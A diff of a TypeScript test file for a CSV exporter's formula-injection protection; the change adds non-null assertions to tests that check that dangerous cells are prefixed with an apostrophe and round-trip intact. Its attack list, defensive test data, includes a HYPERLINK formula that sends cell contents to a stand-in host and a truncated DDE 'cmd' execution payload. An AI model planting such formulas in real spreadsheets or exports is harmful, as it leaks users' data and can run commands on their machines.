@@ -7,8 +7,8 @@ const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+cmd|" /C ca
 describe('toCsv', () => {
   it.each(attacks)('neutralises a cell a spreadsheet would run as a formula: %j', (name) => {
     const [row] = parseDelimited(toCsv(['sku', 'name'], [{ sku: 'LF-CH8', name }]));
-    expect(row!.name.startsWith("'")).toBe(true);
-    expect(row!.name.slice(1).trim()).toBe(name.trim());
+    expect(row!.name!.startsWith("'")).toBe(true);
+    expect(row!.name!.slice(1).trim()).toBe(name.trim());
   });
 
   it('keeps ordinary text, numbers, quotes, commas and line breaks, with a BOM and CRLF', () => {
@@ -20,7 +20,7 @@ describe('toCsv', () => {
   it('round-trips: what an export protected comes back as it was typed', () => {
     for (const name of attacks.filter((attack) => attack.trim() === attack)) {
       const [row] = parseDelimited(toCsv(['name'], [{ name }]));
-      expect(fromCsvCell(row!.name)).toBe(name);
+      expect(fromCsvCell(row!.name!)).toBe(name);
     }
     expect(fromCsvCell("'plain apostrophe")).toBe("'plain apostrophe");
   });
